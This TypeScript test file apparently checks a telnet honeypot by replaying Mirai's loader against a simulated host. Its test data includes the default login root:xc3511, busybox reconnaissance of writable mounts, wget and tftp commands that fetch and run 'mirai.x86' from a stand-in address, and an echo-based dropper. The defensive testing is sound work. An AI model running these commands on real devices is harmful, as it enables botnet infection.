import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { type Host, inertElf, type Loader, machineOf, octetLines, play, startHost } from './telnet-loader.ts'

const X86_64 = 62
const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex')

type Upload = { path: string; sample: { sha256: string }; fate?: string }
type Download = { url: string; tool: string; commandLine: string }

/** The state machine of Mirai's loader (its published server.c), up to the point where a method of transport is chosen. */
async function infect(
  loader: Loader,
  user: string,
  password: string,
): Promise<{ folder: string; wget: boolean; tftp: boolean }> {
  await loader.expect(/ogin: ?$|[:>%$#] ?$/)
  loader.send(user)
  await loader.expect(/assword: ?$/)
  loader.send(password)
  await loader.expect(/[:>%$#] ?$/)
  for (const word of ['enable', 'system', 'shell', 'sh']) loader.send(word)
  await loader.query('', 'ECCHI')
  const processes = await loader.query('/bin/busybox ps', 'ECCHI')
  assert.match(processes, /\d+ +\S+/)
  const mounts = await loader.query('/bin/busybox cat /proc/mounts', 'ECCHI')
  const places = mounts
    .split('\r\n')
    .map(line => line.split(' '))
    .filter(([, , , flags]) => flags?.startsWith('rw'))
    .map(([, place]) => place!)
  assert.ok(places.length > 0, mounts)
  // "kami", written and read back where it may be.
  for (const place of places)
    loader.send(
      `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69${place}' > ${place}/.nippon; /bin/busybox cat ${place}/.nippon; /bin/busybox rm ${place}/.nippon`,
    )
  loader.send(
    `/bin/busybox echo -e '\\x6b\\x61\\x6d\\x69/dev' > /dev/.nippon; /bin/busybox cat /dev/.nippon; /bin/busybox rm /dev/.nippon`,
  )
  const read = await loader.query('', 'ECCHI')
  const folder = /\r\nkami(\/[^\r]*)\r\n/.exec(read)?.[1]
  assert.ok(folder, read)
  loader.send(`rm ${folder}/.t; rm ${folder}/.sh; rm ${folder}/.human`)
  await loader.query(`cd ${folder}/`, 'ECCHI')
  await loader.query('/bin/busybox cp /bin/echo dvrHelper; >dvrHelper; /bin/busybox chmod 777 dvrHelper', 'ECCHI')
  const echo = await loader.query('/bin/busybox cat /bin/echo', 'ECCHI')
  assert.equal(machineOf(echo), X86_64)
  const methods = await loader.query('/bin/busybox wget; /bin/busybox tftp', 'ECCHI')
  return {
    folder,
    wget: !methods.includes('wget: applet not found'),
    tftp: !methods.includes('tftp: applet not found'),
  }
}

describe('Mirai', () => {
  let host: Host
  before(async () => {
    host = await startHost({ access: { rules: ['root:xc3511'] } })
  })
  after(() => host.close())
  const seen = <T>(name: string) => host.events.filter(event => event.name === name).map(event => event.details as T)

  test('by wget', async () => {
    await play(host, async loader => {
      const { wget, tftp } = await infect(loader, 'root', 'xc3511')
      assert.ok(wget && tftp)
      await loader.query(
        '/bin/busybox wget http://203.0.113.66:80/bins/mirai.x86 -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper',
        'ECCHI',
      )
      await loader.query('./dvrHelper telnet.x86', 'IHCCE')
      await loader.query('rm -rf upnp; > dvrHelper', 'ECCHI')
    })
    const [download] = seen<Download>('fileDownload')
    assert.equal(download?.url, 'http://203.0.113.66:80/bins/mirai.x86')
    assert.equal(download.tool, 'busybox wget')
  })

  test('by tftp', async () => {
    await play(host, async loader => {
      await infect(loader, 'root', 'xc3511')
      await loader.query(
        '/bin/busybox tftp -g -l dvrHelper -r mirai.x86 203.0.113.66; /bin/busybox chmod 777 dvrHelper',
        'ECCHI',
      )
      loader.send('./dvrHelper telnet.x86')
    })
    assert.ok(
      seen<Download>('fileDownload').some(({ url }) => url === 'tftp://203.0.113.66/mirai.x86'),
      JSON.stringify(seen('fileDownload')),
    )
  })

  test('by echo', async () => {
    const dropper = inertElf(X86_64, 64, 1100)
    let folder = ''
    await play(host, async loader => {
      folder = (await infect(loader, 'root', 'xc3511')).folder
      await loader.query('/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp', 'ECCHI')
      for (const [at, octets] of octetLines(dropper, 128).entries())
        await loader.query(`/bin/busybox echo -ne '${octets}' ${at === 0 ? '>' : '>>'} upnp`, 'ECCHI')
      await loader.query('./upnp > dvrHelper; ./dvrHelper telnet.x86', 'IHCCE')
    })
    const sample = seen<Upload>('execution').find(({ path }) => path === `${folder}/upnp`.replace('//', '/'))
    assert.equal(sample?.sample.sha256, sha256(dropper))
  })
})
